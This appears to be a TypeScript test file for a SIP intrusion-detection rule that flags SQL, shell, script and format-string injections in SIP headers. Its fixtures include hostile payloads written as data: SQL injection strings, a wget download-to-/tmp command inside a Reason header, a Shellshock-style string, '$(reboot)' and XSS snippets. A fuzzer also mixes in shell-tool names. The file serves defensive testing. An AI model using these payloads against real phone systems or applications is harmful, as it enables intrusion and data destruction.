/**
 * protocol.injection: each payload family in the fields it examines, benign names that stay quiet,
 * and the byte screen that spares the field-by-field matching: it must pass every message in which
 * that matching finds a payload (generated payloads, folded, compact, percent-encoded, Unicode
 * spaces; the RFC 4475 torture messages) and reject ordinary phone traffic.
 */
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { test } from 'node:test';
import {
  findInjection,
  findInjectionInFields,
  mayHoldInjection,
  PATTERNS,
  protocolInjection,
} from '../../../src/detect/rules/protocol-injection.js';
import { parseSipMessage } from '../../../src/sip/message.js';
import { toSipEvent, type SipEvent } from '../../../src/track/sip-event.js';
import { unitFrame, ruleHarness } from '../../helpers/rule-harness.js';

const PBX = '198.51.100.40';
const ATTACKER = '203.0.113.66';
const T0 = Date.UTC(2026, 10, 24, 6, 0, 0);

let seq = 0;
/** An INVITE with `extra` header lines; the From display name and Request-URI user as given. */
function invite(o: { ruri?: string; display?: string; extra?: string } = {}): string {
  seq++;
  return (
    `INVITE sip:${o.ruri ?? '100'}@${PBX} SIP/2.0\r\n` +
    `Via: SIP/2.0/UDP ${ATTACKER}:5060;branch=z9hG4bK-5f1e2d${seq};rport\r\n` +
    `Max-Forwards: 70\r\n` +
    `From: "${o.display ?? 'Alice'}" <sip:201@${PBX}>;tag=8f3a1c\r\n` +
    `To: <sip:${o.ruri ?? '100'}@${PBX}>\r\n` +
    `Call-ID: 6c1f0e1a9b7d4c2e${seq}@${ATTACKER}\r\nCSeq: 1 INVITE\r\n` +
    `Contact: <sip:201@${ATTACKER}:5060;transport=udp>;expires=3600\r\n` +
    `User-Agent: Yealink SIP-T46S 66.86.0.15\r\n${o.extra ?? ''}Content-Length: 0\r\n\r\n`
  );
}

function eventOf(text: string | Buffer): SipEvent {
  const data = typeof text === 'string' ? Buffer.from(text, 'utf8') : text;
  const frame = unitFrame(1, T0, ATTACKER, PBX, '');
  const ev = toSipEvent({ ...frame, data }, parseSipMessage(data));
  assert.ok(ev !== undefined);
  return ev;
}

test('each payload family is found in the field that carries it, first field first', () => {
  const cases: [string, string, string][] = [
    [invite({ display: "x' OR 1=1 --" }), 'sql', 'From'],
    [invite({ extra: 'Subject: 1; DROP TABLE cdr\r\n' }), 'sql', 'Subject'],
    [invite({ display: 'union /**/ all select 1' }), 'sql', 'From'],
    [invite({ ruri: "100'--" }), 'sql', 'Request-URI'],
    [
      invite({ extra: 'Reason: Q.850;cause=16;text="x;wget http://198.51.100.9/a -O /tmp/a"\r\n' }),
      'shell',
      'Reason',
    ],
    [invite({ extra: 'Subject: () { :; }; /bin/id\r\n' }), 'shell', 'Subject'],
    [invite({ display: '$(reboot)' }), 'shell', 'From'],
    [invite({ extra: 'Subject: <script>alert(1)</script>\r\n' }), 'script', 'Subject'],
    [invite({ extra: 'Referred-By: <sip:a@b;x=javascript:alert(1)>\r\n' }), 'script', 'Referred-By'],
    [invite({ display: '%n%n' }), 'format-string', 'From'],
    // Percent-encoded, folded and compact forms reach the patterns too.
    [invite({ ruri: '%3Cscript%3E' }), 'script', 'Request-URI'],
    [invite({ extra: 'Subject: 1;\r\n  DROP\ttable x\r\n' }), 'sql', 'Subject'],
    [invite({ extra: 's: <img src=x onerror=alert(1)>\r\n' }), 'script', 'Subject'],
  ];
  for (const [text, kind, field] of cases) {
    assert.ok(mayHoldInjection(eventOf(text).msg), text);
    const hit = findInjection(eventOf(text));
    assert.equal(hit?.kind, kind, text);
    assert.equal(hit?.field, field, text);
    assert.deepEqual(hit, findInjectionInFields(eventOf(text)));
  }
});

test('names with apostrophes and ordinary phone traffic raise nothing', () => {
  const h = ruleHarness(protocolInjection);
  h.send(T0, ATTACKER, PBX, invite({ display: "Seán O'Brien" }));
  h.send(T0 + 1, ATTACKER, PBX, invite({ extra: 'Subject: Q3 numbers (draft) & notes; 50% done\r\n' }));
  assert.deepEqual(h.finish(), []);
});

test('the rule raises one alert per source with the kinds and samples it saw', () => {
  const h = ruleHarness(protocolInjection);
  const f1 = h.send(T0, ATTACKER, PBX, invite({ display: "x' OR 1=1 --" }));
  const f2 = h.send(T0 + 1000, ATTACKER, PBX, invite({ extra: 'Subject: <svg onload=alert(1)>\r\n' }));
  const alerts = h.finish();
  assert.equal(alerts.length, 1);
  const a = alerts[0]!;
  assert.equal(a.rule, 'protocol.injection');
  assert.equal(a.severity, 'high');
  assert.equal(a.count, 2);
  assert.equal(a.source?.ip, ATTACKER);
  assert.deepEqual(a.evidence.kinds, { sql: 1, script: 1 });
  assert.deepEqual(a.evidence.frames, [f1, f2]);
  assert.equal((a.evidence.samples as { field: string }[])[1]?.field, 'Subject');
});

/** Deterministic pseudo-random numbers (xorshift32). */
function random(seed: number): () => number {
  let s = seed;
  return () => {
    s ^= s << 13;
    s ^= s >>> 17;
    s ^= s << 5;
    return (s >>> 0) / 4294967296;
  };
}

// Pieces of payloads, separators and white space (ASCII, folds, Unicode spaces) in every case.
const PIECES = [
  ...["'", '`', '$(', '$', '%n', '%s', '%6e', '%27', '%3C', '|', '&'],
  ...['(', ')', '()', '{', '}', ':', ';', '<', '>', '=', '#', '--', '/*', '/', '-', '@', 'x', '1', 'é'],
  ...[' ', '  ', '\t', '\u00a0', '\u2003', '\ufeff', '\r\n ', '\r\n\t'],
  ...['or', 'OR', 'and', ' 1=1', 'like', 'union', 'UNION', 'all', 'select', 'drop', 'Drop', 'insert'],
  ...['update', 'delete', 'exec', 'shutdown', 'sleep', 'pg_sleep', 'benchmark', 'waitfor', 'delay'],
  ...['sh', 'bash', 'nc', 'ncat', 'wget', 'curl', 'cat', 'rm', 'chmod', 'python3', 'perl', '/bin/'],
  ...['/usr/bin/', '/BIN/', 'script', 'SCRIPT', 'img', 'svg', 'iframe', 'body', 'javascript'],
  ...['JavaScript', 'onerror', 'onload', 'onMouseOver'],
];
const NAMES = [
  ...['From', 'f', 'FROM', 'To', 't', 'Contact', 'm', 'User-Agent', 'user-agent', 'Subject', 's'],
  ...['Call-ID', 'i', 'Reason', 'Referred-By', 'b', 'Refer-To', 'r', 'Via', 'v', 'CSeq', 'X-Foo'],
  ...['Supported', 'Route', 'Record-Route', 'Server', 'Authorization', 'c', 'Require', 'Min-Expires'],
];

test('every word an injection pattern needs is among the pieces of the generator', () => {
  // A pattern word missing from PIECES would go untested by the screen test below: a screen that
  // forgot it would pass silently.
  const pieces = PIECES.join(' ').toLowerCase();
  const words = new Set<string>();
  for (const p of PATTERNS) {
    // Escapes (\s, \b, \d) and character classes are syntax, not words.
    const text = p.re.source.replace(/\\./g, ' ').replace(/\[[^\]]*\]/g, ' ');
    for (const w of text.match(/[a-z_]{2,}/gi) ?? []) words.add(w.toLowerCase());
  }
  assert.ok(words.size > 30, `${words.size} words`);
  for (const w of words) assert.ok(pieces.includes(w), `pattern word "${w}" is not generated`);
});

test('the byte screen passes every generated message in which a field holds a payload', () => {
  const rnd = random(20261124);
  const pick = <T>(a: readonly T[]): T => a[Math.floor(rnd() * a.length)]!;
  const value = (): string => {
    let v = '';
    for (let n = 1 + Math.floor(rnd() * 8); n > 0; n--) v += pick(PIECES);
    return v;
  };
  let found = 0;
  let screened = 0;
  for (let k = 0; k < 30_000; k++) {
    let text =
      rnd() < 0.7 ? `INVITE sip:${rnd() < 0.3 ? value() : '100'}@h SIP/2.0\r\n` : 'SIP/2.0 200 OK\r\n';
    for (let n = 1 + Math.floor(rnd() * 6); n > 0; n--) {
      text += `${pick(NAMES)}${pick([':', ': ', ' : ', '\t:'])}${value()}\r\n`;
    }
    text += rnd() < 0.2 ? `Content-Length: 12\r\n\r\nv=0\r\na=${pick(PIECES)}\r\n` : '\r\n';
    const msg = parseSipMessage(Buffer.from(text, 'utf8'));
    if (msg.kind === 'invalid') continue;
    const ev = { msg, isRequest: msg.kind === 'request' } as SipEvent;
    const hit = findInjectionInFields(ev);
    if (!mayHoldInjection(msg)) screened++;
    if (hit === undefined) continue;
    found++;
    assert.ok(mayHoldInjection(msg), `screened out: ${JSON.stringify(text)} (${hit.kind} in ${hit.field})`);
  }
  // The corpus exercises both sides: payloads found, and messages the screen spares.
  assert.ok(found > 2_000, `${found} payloads`);
  assert.ok(screened > 2_000, `${screened} screened`);
});

test('the byte screen agrees with the field matching on the RFC 4475 torture messages', () => {
  const dir = '../shared/corpus/rfc4475';
  let n = 0;
  for (const f of readdirSync(dir).filter((x) => x.endsWith('.dat'))) {
    const msg = parseSipMessage(readFileSync(`${dir}/${f}`));
    if (msg.kind === 'invalid') continue;
    n++;
    const ev = { msg, isRequest: msg.kind === 'request' } as SipEvent;
    if (findInjectionInFields(ev) !== undefined) assert.ok(mayHoldInjection(msg), f);
  }
  assert.ok(n > 30);
});

test('the byte screen rejects ordinary registrations, calls and answers', () => {
  const register =
    `REGISTER sip:${PBX} SIP/2.0\r\nVia: SIP/2.0/UDP 10.0.0.5:5060;branch=z9hG4bK1d2c3b;rport\r\n` +
    `From: "Reception" <sip:201@${PBX}>;tag=a1b2c3\r\nTo: <sip:201@${PBX}>\r\nCall-ID: 77aa@10.0.0.5\r\n` +
    `CSeq: 2 REGISTER\r\nContact: <sip:201@10.0.0.5:5060>;+sip.instance="<urn:uuid:1-2>";reg-id=1\r\n` +
    `Authorization: Digest username="201", realm="3CXPhoneSystem", nonce="414d53", uri="sip:${PBX}", ` +
    `response="0a4f", algorithm=MD5, qop=auth, nc=00000001, cnonce="9f"\r\n` +
    `User-Agent: 3CXPhoneSystem 18.0.9.20 (20)\r\nExpires: 120\r\nAllow: INVITE, ACK, BYE\r\nContent-Length: 0\r\n\r\n`;
  for (const text of [register, invite(), invite({ display: 'Bob Smith (desk)' })]) {
    assert.equal(mayHoldInjection(eventOf(text).msg), false, text);
  }
});
